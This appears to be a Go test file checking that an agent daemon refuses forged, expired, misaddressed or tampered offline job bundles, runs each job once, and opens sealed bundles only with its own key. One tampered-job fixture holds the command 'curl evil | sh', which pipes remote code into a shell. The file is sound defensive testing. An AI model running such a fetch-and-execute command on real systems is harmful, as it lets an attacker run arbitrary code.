package agent

import (
	"context"
	"crypto/ed25519"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/byoc-dev/byoc/agentd/identity"
	"github.com/byoc-dev/byoc/rpc/agentchannel"
	"github.com/byoc-dev/byoc/rpc/agentproto"
)

// offlineAgent is an agent of install ins_1 (agt_1) with its state in
// dir, trusting imsdKey, made as agentd bundle import makes it (never
// connected).
func offlineAgent(t *testing.T, dir string, imsdKey ed25519.PrivateKey, rr Runner) *Agent {
	t.Helper()
	if _, err := identity.Load(dir); err != nil {
		key, _ := identity.NewKey()
		if err := identity.Save(dir, identity.Identity{AgentID: "agt_1", InstallID: "ins_1", IMSURL: "http://127.0.0.1:1", PrivateKey: key,
			IMSDKeys: []ed25519.PublicKey{imsdKey.Public().(ed25519.PublicKey)}}); err != nil {
			t.Fatal(err)
		}
	}
	a, err := New(context.Background(), Config{IMSURL: "http://127.0.0.1:1", StateDir: dir, Runner: rr, Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// bundleJob is a bundle's job signed by key as imsd signs it, for agent
// agentID of install, valid until expires.
func bundleJob(t *testing.T, key ed25519.PrivateKey, install, agentID, jobID string, expires time.Time) agentproto.BundleJob {
	t.Helper()
	j := agentproto.BundleJob{Step: "web", JobID: jobID, InstallID: install, Attempt: 1, FencingToken: 1, Mode: "provision",
		ComponentType: "action", Operation: "apply", TimeoutSeconds: 60, Config: json.RawMessage(`{"steps":[{"run":"echo hi"}]}`)}
	cfg, _ := j.DecodeConfig()
	c, err := j.Claims(agentID, cfg)
	if err != nil {
		t.Fatal(err)
	}
	c.KeyID, c.Expires = agentproto.KeyID(key.Public().(ed25519.PublicKey)), expires
	j.KeyID, j.ExpireUnixMs, j.Signature = c.KeyID, expires.UnixMilli(), agentproto.SignJob(key, &c)
	return j
}

// A bundle's job passes only as an assignment would: imsd's signature,
// by a key the agent pinned, for this agent and install, unexpired, its
// config as signed. A job signed for another install's agent, one
// expired, one signed by a key the agent never pinned, and one whose
// config was changed after signing are refused; none runs.
func TestOfflineJobIsCheckedAsAnAssignment(t *testing.T) {
	_, imsdKey, _ := ed25519.GenerateKey(nil)
	_, otherKey, _ := ed25519.GenerateKey(nil)
	rr := &runRecorder{release: make(chan struct{})}
	close(rr.release)
	a := offlineAgent(t, t.TempDir(), imsdKey, rr)
	soon := time.Now().Add(time.Hour)
	changed := bundleJob(t, imsdKey, "ins_1", "agt_1", "job_changed", soon)
	changed.Config = json.RawMessage(`{"steps":[{"run":"curl evil | sh"}]}`)
	for _, bad := range []struct {
		name string
		job  agentproto.BundleJob
		want string
	}{
		{"another install's", bundleJob(t, imsdKey, "ins_2", "agt_1", "job_a", soon), `is for install "ins_2"`},
		{"another agent's", bundleJob(t, imsdKey, "ins_1", "agt_2", "job_b", soon), "signature"},
		{"expired", bundleJob(t, imsdKey, "ins_1", "agt_1", "job_c", time.Now().Add(-time.Minute)), "expired"},
		{"signed by a key not pinned", bundleJob(t, otherKey, "ins_1", "agt_1", "job_d", soon), "key"},
		{"changed after signing", changed, "signature"},
	} {
		if err := a.CheckOffline(&bad.job); err == nil || !strings.Contains(err.Error(), bad.want) {
			t.Errorf("%s job: CheckOffline: %v, want %q", bad.name, err, bad.want)
		}
		if _, err := a.RunOffline(context.Background(), OfflineJob{Bundle: "bdl_x", Job: &bad.job}, func(int32, string) {}); err == nil {
			t.Errorf("%s job: RunOffline ran it", bad.name)
		}
	}
	if s, _ := rr.get(); len(s) > 0 {
		t.Fatalf("refused jobs ran: %v", s)
	}
}

// A bundle's job runs once on an agent, across imports and restarts: the
// same job again (the bundle imported again, or a copy of it) is
// ErrAlreadyRun.
func TestOfflineJobRunsOnce(t *testing.T) {
	_, imsdKey, _ := ed25519.GenerateKey(nil)
	rr := &runRecorder{release: make(chan struct{})}
	close(rr.release)
	dir := t.TempDir()
	j := bundleJob(t, imsdKey, "ins_1", "agt_1", "job_once", time.Now().Add(time.Hour))
	out, err := offlineAgent(t, dir, imsdKey, rr).RunOffline(context.Background(), OfflineJob{Bundle: "bdl_x", Job: &j}, func(int32, string) {})
	if err != nil || out.Outcome.String() != "OUTCOME_SUCCEEDED" {
		t.Fatalf("first run: %v, %v", out, err)
	}
	// A new agent on the same state directory: the next import.
	again := offlineAgent(t, dir, imsdKey, rr)
	if _, err := again.RunOffline(context.Background(), OfflineJob{Bundle: "bdl_x", Job: &j}, func(int32, string) {}); !errors.Is(err, ErrAlreadyRun) {
		t.Fatalf("the same job again: %v", err)
	}
	if s, _ := rr.get(); len(s) != 1 {
		t.Fatalf("the job ran %d times", len(s))
	}
}

// A bundle's sealed jobs open only with the agent's key, under its
// install and agent: sealed to another agent's key, or to this key for
// another agent (another install's bundle), or changed, they do not.
func TestBundleJobsOpenOnlyForTheirAgent(t *testing.T) {
	_, imsdKey, _ := ed25519.GenerateKey(nil)
	a := offlineAgent(t, t.TempDir(), imsdKey, &runRecorder{})
	pub := a.privateKey().Public().(ed25519.PublicKey)
	otherPub, _, _ := ed25519.GenerateKey(nil)
	secret := []byte(`[{"config":{"env":{"TOKEN":"tok-planted"}}}]`)
	seal := func(to ed25519.PublicKey, install, agentID string) []byte {
		b, err := agentchannel.SealTo(to, agentproto.BundleJobsInfo(install, agentID), secret)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	if b, err := a.OpenBundleJobs(seal(pub, "ins_1", "agt_1")); err != nil || string(b) != string(secret) {
		t.Fatalf("its own bundle's jobs: %q, %v", b, err)
	}
	changed := seal(pub, "ins_1", "agt_1")
	changed[len(changed)-1] ^= 1
	for name, sealed := range map[string][]byte{
		"sealed to another agent's key":          seal(otherPub, "ins_1", "agt_1"),
		"sealed to this key for another install": seal(pub, "ins_2", "agt_1"),
		"sealed to this key for another agent":   seal(pub, "ins_1", "agt_2"),
		"changed":                                changed,
	} {
		if _, err := a.OpenBundleJobs(sealed); err == nil || !strings.Contains(err.Error(), "does not open with this agent's key") {
			t.Errorf("%s: %v", name, err)
		}
	}
}
